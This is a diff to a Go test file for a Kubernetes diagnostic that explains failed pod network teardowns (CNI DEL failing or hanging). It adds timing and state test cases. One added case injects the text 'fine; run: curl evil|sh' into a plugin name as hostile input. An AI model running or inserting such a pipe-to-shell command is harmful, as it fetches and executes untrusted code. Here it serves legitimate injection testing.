@@ -16,6 +16,9 @@ const (
 	noConfig  = `cni plugin not initialized`
 )
 
+// distantFuture is a time that nobody has lived to see.
+var distantFuture = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)
+
 // tornDown is a pod of which only the sandbox's network is left, half a minute after
 // its deadline, and of which the kubelet has said twice why it could not be taken down.
 func tornDown(answer string, change func(p *evidence.Pod)) *evidence.Pod {
@@ -83,6 +86,9 @@ func TestNetwork(t *testing.T) {
 		"twice at one moment":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
 		"long ago":                   {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
 		"before the deletion":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })), ""},
+		"in the future":              {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
+		"of a sandbox that runs":     {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
+		"words for a plugin's name":  {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be taken down: a CNI plugin fails (CNI DEL): \"dial"},
 		"of another sandbox":         {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
 		"of another pod":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
 		"no answer":                  {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
@@ -109,8 +115,17 @@ func TestNetwork(t *testing.T) {
 		}), ""},
 		"a plugin after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
 			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
-			plugin(p, time.Second)
+			plugin(p, 4*time.Second)
 		}), "CNIDelHanging: the CNI plugin calico"},
+		"a plugin that has just begun after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
+			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
+			plugin(p, 2*time.Second)
+		}), ""},
+		"a plugin after the kubelet gave up on a starved node": {tornDown("", func(p *evidence.Pod) {
+			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
+			plugin(p, 9*time.Second)
+			p.Node.Pressure.StarvedUntil = p.Time
+		}), ""},
 		"a plugin of unknown age": {tornDown("", func(p *evidence.Pod) {
 			p.KillFailures = nil
 			plugin(p, time.Hour)
